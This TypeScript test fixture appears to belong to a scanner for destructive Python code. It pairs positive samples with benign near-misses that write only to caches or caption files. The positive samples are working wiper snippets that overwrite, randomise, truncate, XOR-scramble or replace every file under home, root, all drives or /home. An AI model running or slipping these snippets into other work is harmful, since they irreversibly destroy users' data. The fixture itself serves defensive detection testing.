import type { NotToFind, ToFind } from './pack.js';

const lines = (...all: string[]): string => `${all.join('\n')}\n`;

const OVERWRITTEN: readonly ToFind[] = [
  ['deletes_files', 'files that are overwritten below several folders', lines(
    'import os',
    'def fill(folder):',
    '    for parent, _, names in os.walk(folder):',
    '        for name in names:',
    '            with open(os.path.join(parent, name), "w", encoding="utf-8") as f:',
    '                f.write("x")',
    'for folder in ("./", "../", os.path.expanduser("~"), "/"):',
    '    fill(folder)',
  )],
  ['deletes_files', 'files of all drives', lines(
    'import os, string',
    'from pathlib import Path',
    'for letter in string.ascii_uppercase:',
    '    root = Path(f"{letter}:\\\\")',
    '    for p in root.rglob("*"):',
    '        if p.is_file():',
    '            p.write_bytes(os.urandom(p.stat().st_size))',
  )],
  ['deletes_files', 'files of all disks that are cut', lines(
    'import os, psutil',
    'def each(place):',
    '    for entry in os.scandir(place):',
    '        if entry.is_dir():',
    '            each(entry.path)',
    '        else:',
    '            os.truncate(entry.path, 0)',
    'for disk in psutil.disk_partitions():',
    '    each(disk.mountpoint)',
  )],
  ['deletes_files', 'files below a variable that are changed in place', lines(
    'import glob, os',
    'home = os.environ["USERPROFILE"]',
    'def all_of(start):',
    '    return [p for p in glob.glob(start + "/**", recursive=True) if os.path.isfile(p)]',
    'for p in all_of(home):',
    '    with open(p, "r+b") as f:',
    '        data = f.read()',
    '        f.seek(0)',
    '        f.write(bytes(b ^ 7 for b in data))',
  )],
  ['deletes_files', 'files that a copy takes the place of', lines(
    'import os, shutil',
    'note = os.path.join(os.path.dirname(__file__), "note.txt")',
    'for root, _, names in os.walk("/home"):',
    '    for n in names:',
    '        shutil.copyfile(note, root + "/" + n)',
    'open("done", "w").close()',
  )],
];

const NOT_OVERWRITTEN: readonly NotToFind[] = [
  ['models that are found and listed', lines(
    'import json, os',
    'found = []',
    'for root, _, names in os.walk(os.path.expanduser("~")):',
    '    for name in names:',
    '        if name.endswith(".safetensors"):',
    '            found.append(os.path.join(root, name))',
    'with open(os.path.join(os.path.dirname(__file__), "found.json"), "w") as f:',
    '    json.dump(found, f)',
  )],
  ['small pictures of pictures that are found', lines(
    'import os',
    'from pathlib import Path',
    'from PIL import Image',
    'cache = Path(__file__).parent / "cache"',
    'for p in (Path.home() / "Pictures").rglob("*"):',
    '    small = cache / p.name',
    '    Image.open(p).save(small)',
    '    (cache / (p.stem + ".json")).write_text("{}")',
    '    with open(f"{cache}/{p.name}.txt", "w") as f:',
    '        f.write("x")',
  )],
  ['captions beside pictures', lines(
    'import os',
    'for root, _, names in os.walk(os.path.expanduser("~/Pictures")):',
    '    for n in names:',
    '        path = os.path.join(root, n)',
    '        with open(os.path.splitext(path)[0] + ".txt", "w") as f:',
    '            f.write("a cat")',
  )],
  ['parts of a path', lines(
    'import os',
    'def out(path, sep="/"):',
    '    for root, _, names in os.walk(path.replace("\\\\", "/").rsplit("/", 1)[0]):',
    '        for n in names:',
    '            with open(os.path.join(root, n), "w") as f:',
    '                f.write(os.path.expanduser("~"))',
    'out("a/b")',
  )],
  ['a folder of its own at home', lines(
    'import os, glob',
    'for p in glob.glob(os.path.join(os.environ["HOME"], ".cache", "pack", "*")):',
    '    with open(p, "a") as f:',
    '        f.write("x")',
  )],
];

/** Classes of attacks that a blind trial of the scan showed. */
export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN];
export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN];
